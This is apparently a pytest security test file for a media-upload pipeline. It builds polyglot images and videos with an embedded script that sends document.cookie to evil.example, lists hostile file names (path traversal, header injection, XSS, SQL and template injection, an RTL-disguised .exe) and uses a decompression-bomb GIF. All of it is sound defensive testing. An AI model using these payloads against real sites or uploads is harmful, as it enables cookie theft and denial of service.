"""Files that are two things at once, files with hostile names, and one poison among a hundred good ones."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from manyhands.media import actions
from manyhands.media.models import Blob, Processing, Rendition, Upload
from manyhands.media.store.current import store
from tests.jobs import run_jobs
from tests.make import NOON, make_member
from tests.media_samples import sample

pytestmark = [pytest.mark.django_db, pytest.mark.slow]

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"


def archive() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        packed.writestr("index.html", SCRIPT)
    return made.getvalue()


def gif_with_script() -> bytes:
    """A comment block (GIF89a §24) before the picture, which a browser that sniffs would run."""
    gif = sample("drawing.gif").read_bytes()
    head = 13 + 3 * 2 ** ((gif[10] & 7) + 1) if gif[10] & 0x80 else 13
    return gif[:head] + b"\x21\xfe" + bytes([len(SCRIPT)]) + SCRIPT + b"\0" + gif[head:]


def jpeg_with_html() -> bytes:
    jpeg = sample("drawing.jpeg").read_bytes()
    return jpeg[:2] + b"\xff\xfe" + (len(SCRIPT) + 2).to_bytes(2, "big") + SCRIPT + jpeg[2:] + SCRIPT


def png_and_archive() -> bytes:
    return sample("drawing.png").read_bytes() + archive()


def film_with_html() -> bytes:
    """A free box (ISO 14496-12 §8.1.2) may hold anything."""
    return sample("clip-h264.mp4").read_bytes() + (len(SCRIPT) + 8).to_bytes(4, "big") + b"free" + SCRIPT


PICTURES_AND_FILMS: list[Callable[[], bytes]] = [
    gif_with_script,
    jpeg_with_html,
    png_and_archive,
    film_with_html,
]


def prepared(data: bytes, tmp_path: Path, name: str) -> Processing:
    path = tmp_path / "upload"
    path.write_bytes(data)
    upload = actions.ingest_file(path, name=name, member=make_member(), at=NOON)
    run_jobs("media")
    return Processing.objects.select_related("blob").get(blob=upload.blob)


def bytes_of(blob: Blob) -> bytes:
    return b"".join(store().read(blob.sha256))


@pytest.mark.parametrize("polyglot", PICTURES_AND_FILMS)
def test_of_two_things_only_the_picture_or_the_film_is_handed_on(polyglot, tmp_path):
    data = polyglot()
    assert b"evil.example" in data
    row = prepared(data, tmp_path, "two.html")
    assert row.state == "ready"
    assert row.kind in {"image", "video"}
    made = list(Rendition.objects.select_related("output"))
    assert "clean" in {rendition.profile for rendition in made}
    for rendition in made:
        assert b"evil.example" not in bytes_of(rendition.output), rendition.profile


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + archive(),
        b"<html>" + SCRIPT,
        b"GIF89a/*" + SCRIPT + b"*/=1;alert(1)",
        b"MZ" + bytes(200) + SCRIPT,
        b"\xef\xbb\xbf<?xml version='1.0'?><svg onload='alert(1)'/>",
    ],
)
def test_what_only_begins_like_something_is_never_shown(data, tmp_path):
    row = prepared(data, tmp_path, "picture.png")
    assert (row.state, row.kind) in {("ready", "attachment"), ("failed", "")}
    assert not Rendition.objects.exists()


NAUGHTY = [
    "../../etc/passwd",
    "..\\..\\boot.ini",
    "x\0.png",
    "x.png\r\nSet-Cookie: a=b",
    "n" * 300 + ".png",
    "CON",
    "-rf",
    "a.mp4\u202egpj.exe",
    "<img src=x onerror=alert(1)>.png",
    "'; DROP TABLE media_blob; --.png",
    "{{ 7*7 }}%s%n{0}.png",
    "\ufeff\u200b",
    "",
    ".",
    "/",
    "雨.png",
]


@pytest.mark.parametrize("name", NAUGHTY)
def test_a_name_is_only_ever_words(name, tmp_path):
    row = prepared(b"It rained.", tmp_path, name)
    assert (row.state, row.kind) == ("ready", "text")
    kept = Upload.objects.get().name
    assert not {"/", "\\", "\0", "\r", "\n", "\u202e", "\u200b", "\ufeff"} & set(kept)
    assert len(kept) <= 255
    assert kept not in {".", ".."}


def test_one_poison_among_a_hundred_good_ones_stops_none_of_them(tmp_path):
    """Each belongs to a member of its own, as on a busy evening; the poison is somewhere in the middle."""
    for number in range(100):
        path = tmp_path / f"{number}.md"
        path.write_text(f"# Story {number}\n\nIt rained.", encoding="utf-8")
        actions.ingest_file(path, name=path.name, member=make_member(f"m{number}"), at=NOON)
        if number == 50:
            poison = tmp_path / "poison.gif"
            frame = b"\x2c" + bytes(4) + b"\x88\x13\x88\x13\0\x02\x02\x4c\x01\0"
            poison.write_bytes(b"GIF89a\x88\x13\x88\x13\x80\0\0" + bytes(6) + frame * 100_000 + b"\x3b")
            actions.ingest_file(poison, name="poison.gif", member=make_member("eve"), at=NOON)
    run_jobs("media")
    states = list(Processing.objects.values_list("state", "reason_code"))
    assert sorted(states) == [("failed", "too_many_frames"), *[("ready", "")] * 100]
